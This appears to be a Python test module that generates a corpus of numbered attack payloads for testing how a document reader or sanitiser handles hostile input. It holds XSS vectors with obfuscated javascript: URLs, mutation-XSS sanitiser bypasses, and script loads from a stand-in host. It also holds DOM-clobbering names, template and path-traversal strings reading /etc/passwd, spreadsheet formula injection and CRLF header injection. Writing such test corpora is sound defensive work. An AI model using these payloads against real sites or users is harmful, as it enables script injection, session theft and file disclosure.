"""Attacks on a reader, generated: tags × events × encodings × contexts, each with a number of its own.

Strategy: every payload calls `fire(N)`, which a page under test defines to remember N, or asks the host `canary.test`
for something. Numbers are given out in one order, so the same payload has the same number in every run. What swallows
the rest of a document (an element or a comment that is never closed) is kept apart as `SWALLOWING`: a document ends
with one of them.
"""

# ruff: noqa: E501 – attacks and scripts are tables, read line by line

from __future__ import annotations

from collections.abc import Callable, Iterator
from html import escape
from itertools import count, product
from urllib.parse import quote

CANARY = "canary.test"

# Elements whose own events fire without a reader's doing, with what makes them fire.
AT_ONCE = (
    *("img src=x", "img srcset=x", "image src=x", "body", "svg", "svg/", "iframe src=about:blank", "frameset"),
    *("video src=x", "video><source", "audio src=x", "audio autoplay src=x", "input autofocus", "select autofocus"),
    *("textarea autofocus", "keygen autofocus", "button autofocus", "a href=# autofocus tabindex=1", "object data=x"),
    *("embed src=x", "details open", "marquee", "link rel=stylesheet href=x", "style", "script src=x", "isindex"),
    *("div style=animation-name:x", "p contenteditable autofocus", "dialog open", "input type=image src=x", "x-y"),
    *(
        "math",
        "table background=x",
        "meter",
        "track src=x",
        "portal src=x",
        "p popover",
        "xss id=x tabindex=1",
        "bgsound",
    ),
)
EVENTS = (
    *("onerror", "onload", "onfocus", "onstart", "ontoggle", "onanimationstart", "onclick", "onmouseover"),
    *(
        "onpointerenter",
        "onbeforetoggle",
        "onpageshow",
        "oncanplay",
        "onfocusin",
        "onscrollend",
        "OnErRoR",
        "on\x00load",
    ),
)
# How an attribute with a handler is written.
WRITTEN: tuple[Callable[[str, str, str], str], ...] = (
    lambda tag, event, code: f"<{tag} {event}={code}>",
    lambda tag, event, code: f'<{tag} {event}="{code}">',
    lambda tag, event, code: f"<{tag}/{event}='{code}'//",
    lambda tag, event, code: f"<{tag}\n\t{event}\x0c=\r{_entities(code)} >x",
)
ADDRESSES = (
    *("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", " javascript:{}"),
    *("javascript&colon;{}", "&#106;avascript:{}", "&#x6A&#x61vascript:{}", "java&Tab;script:{}", "javascript://%0a{}"),
    *(
        "vbscript:{}",
        "data:text/html,<script>parent.{}</script>",
        "data:text/html;base64,PHNjcmlwdD5maXJlKDEpPC9zY3JpcHQ+",
    ),
    *("data:image/svg+xml,<svg onload={}>", "feed:javascript:{}", "jar:javascript:{}", "blob:{}", "filesystem:{}"),
    *("javascript\u200b:{}", "ｊavascript:{}", "view-source:javascript:{}", "x-javascript:{}", "livescript:{}"),
)
HOLDERS = (
    *('<a href="{}">x</a>', "<a href={}>x", '<img src="{}">', '<img data-src="{}">', '<iframe src="{}"></iframe>'),
    *(
        '<form action="{}"><input type=submit autofocus></form>',
        '<button formaction="{}">x</button>',
        '<base href="{}">',
    ),
    *('<object data="{}"></object>', '<embed src="{}">', '<link rel=import href="{}">', '<area href="{}">', "[x]({})"),
    *("[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}\n", '<svg><a xlink:href="{}"><text>x</text></a></svg>'),
    *('<math href="{}">x</math>', '<meta http-equiv=refresh content="0;url={}">', "[[{}]]", "[[x|{}]]", "![[{}]]"),
    *(
        '<svg><use href="{}"/></svg>',
        '<svg><animate attributeName=href values="{}"/></svg>',
        '<p style="background:url({})">',
    ),
    *(
        '<table background="{}"><tr><td>x</table>',
        '<input type=image src="{}">',
        '<blockquote cite="{}">x</blockquote>',
    ),
)
# {} is a whole element that fires by itself: how it hides from a sanitiser and comes to life in a second parse.
MUTATIONS = (
    *("{}", "<p>{}</p>", "<svg><style>{}</style></svg>", "<math><mtext><table><mglyph><style>{}</style></table></mtext></math>"),
    "<form><math><mtext></form><form><mglyph><style></math>{}</style></mglyph></form>",
    "<svg></p><style><a id=\"</style>{}\"></style></svg>",
    "<noscript><p title=\"</noscript>{}\"></noscript>",
    "<math><annotation-xml encoding=\"text/html\"><style>{}</style></annotation-xml></math>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<svg><desc><title><style><!--</style></title>--&gt;{}</desc></svg>",
    "<table><td><select><table>{}</select></table>",
    "<template>{}</template><p>", "<select><option>{}</select>", "<!--><p>{}<!-- -->", "<!--!>{}--!>", "<![CDATA[{}]]>",
    "<?xml {}?>", "<ruby><rt>{}</ruby>", "<b title='`'>`{}`</b>", "`<b`{}", "```\"{}\n{}\n```", "~~~html\n{}\n~~~",
    "    {}", "> [!note] {}\n> {}", "$${}$$", "\\({}\\)", "{% raw %}{}{% endraw %}", "[^n]\n\n[^n]: {}", "| {} | b |\n|---|---|\n| {} | c |",
    "# {}", "**{}**", "[{}](https://a.cn \"{}\")", "![{}](https://a.cn/a.png \"{}\")", "<{}", "<<p>{}", "</p{}", "<p {}>",
    "{{{{ {} }}}}", "== {} ==", "<xmp>{}</xmp>", "<title>{}</title>", "<a name='{}'>x</a>", "<p id=\"{}\">x</p>",
    "<p class=\"{}\">x</p>", "<img alt=\"{}\" src=https://a.cn/a.png>", "<p lang=\"{}\">x</p>", "<td colspan=\"{}\">x</td>",
    "<pre class=\"language-{}\">x</pre>",
)  # fmt: skip
FIRING = (
    *("<script>{}</script>", "<script/x>{}</script >", "<ScRiPt>{}</sCrIpT>", "<script src=//canary.test/{n}></script>"),
    *("<img src=x onerror={}>", '<img src="x" onerror="{}">', "<img src=x onerror='{}'>", "<svg onload={}>"),
    *('"><script>{}</script>', "'><img src=x onerror={}>", '" autofocus onfocus={} x="', "' onmouseover='{}"),
    *("<iframe srcdoc='<script>parent.{}</script>'>", "<details open ontoggle={}>", "<link rel=stylesheet href=//canary.test/{n}>"),
    *("<body onpageshow={}>", "<svg><script>{}</script></svg>", "<math><script>{}</script></math>", "<style>@import'//canary.test/{n}';</style>"),
    *("&lt;script&gt;{}&lt;/script&gt;", "&#60;img src=x onerror={}&#62;", "\ufe64script\ufe65{}\ufe64/script\ufe65", "＜script＞{}＜/script＞"),
    *("<img src=x\x00onerror={}>", "<scr\x00ipt>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<object data=//canary.test/{n}>"),
)  # fmt: skip
SWALLOWING = (
    *("<script>{}", "<style>{}", "<!-- {}", "<textarea>{}", "<title>{}", "<xmp>{}", "<plaintext>{}", "<noscript>{}"),
    *(
        "<template>{}",
        "<iframe>{}",
        "<svg><script>{}",
        "<math><style>{}",
        "<a href='{}",
        '<img title="{}',
        "<select>{}",
    ),
)
# Names that, as an id or a name, hide what the page's own scripts ask the document for.
CLOBBERING = (
    *(
        "getElementById",
        "querySelector",
        "body",
        "head",
        "cookie",
        "forms",
        "location",
        "documentElement",
        "text",
        "main",
    ),
    *("createElement", "addEventListener", "fz-names", "fire", "attributes", "parentNode", "children", "__proto__"),
)
# Values of a header that come to stand in attributes, addresses, JSON-LD, tables and feeds.
VALUES = (
    *('"><script>{}</script>', "'><img src=x onerror={}>", "</script><script>{}</script>", "</title><script>{}</script>"),
    *('" onmouseover="{}" x="', "javascript:{}", "data:text/html,<script>parent.{}</script>", "]]><script>{}</script>"),
    *("<!--<script>{}", "{{{{ {} }}}}", "{{% include '../../etc/passwd' %}}", "${{{}}}", "../../../{n}", "..\\..\\{n}"),
    *("/etc/{n}", "C:\\{n}", "CON{n}", "%2e%2e%2f{n}", "=cmd|' /C calc'!A{n}", "@SUM({n})", "+{n}+{n}", "-{n}", "\t={n}"),
    *("//canary.test/{n}", "https://canary.test/\"onerror={}", "\u202e{n}gpj.exe\u202c", "a\u2066b{n}", "аdmin{n}", "a\u0000b{n}"),
    *("&quot;&gt;&lt;script&gt;{}&lt;/script&gt;", "x\r\nSet-Cookie: {n}", "http://a.cn/'><svg onload={}>", "\ud83d{n}"),
)  # fmt: skip


def _entities(code: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in code)


class _Numbers:
    def __init__(self) -> None:
        self._next = count(1)

    def fill(self, pattern: str, code: str = "fire({n})") -> str:
        """`pattern` with each `{}` turned into a call with the next number; doubled braces stay doubled."""
        number = str(next(self._next))
        return pattern.replace("{}", code.replace("{n}", number)).replace("{n}", number)


def payloads() -> tuple[str, ...]:
    """Attacks for bodies, in one order."""
    return tuple(_payloads(_Numbers()))


def _payloads(numbers: _Numbers) -> Iterator[str]:
    for place, (tag, event) in enumerate(product(AT_ONCE, EVENTS)):
        for form in WRITTEN[place % 2 :: 2]:
            yield form(tag, event, numbers.fill("{}"))
    for holder, address in product(HOLDERS, ADDRESSES):
        yield holder.replace("{}", numbers.fill(address))
    for mutation, firing in product(MUTATIONS, FIRING):
        yield mutation.replace("{{{{", "{{").replace("}}}}", "}}").replace("{}", numbers.fill(firing))
    for firing in FIRING:  # once and twice taken for text by somebody who decodes too often
        yield escape(numbers.fill(firing))
        yield quote(numbers.fill(firing))
    for name in CLOBBERING:
        yield f'<a id="{name}" name="{name}">{numbers.fill("{}")}</a><form id={name}><input name={name}></form>'


def swallowing() -> tuple[str, ...]:
    """Attacks that hide the rest of their document."""
    numbers = _Numbers()
    return tuple(numbers.fill(pattern) for pattern in SWALLOWING)


def values() -> tuple[str, ...]:
    """Attacks for the values of headers and for names."""
    numbers = _Numbers()
    return tuple(
        numbers.fill(value).replace("{{{{", "{{").replace("}}}}", "}}").replace("{{%", "{%") for value in VALUES
    )
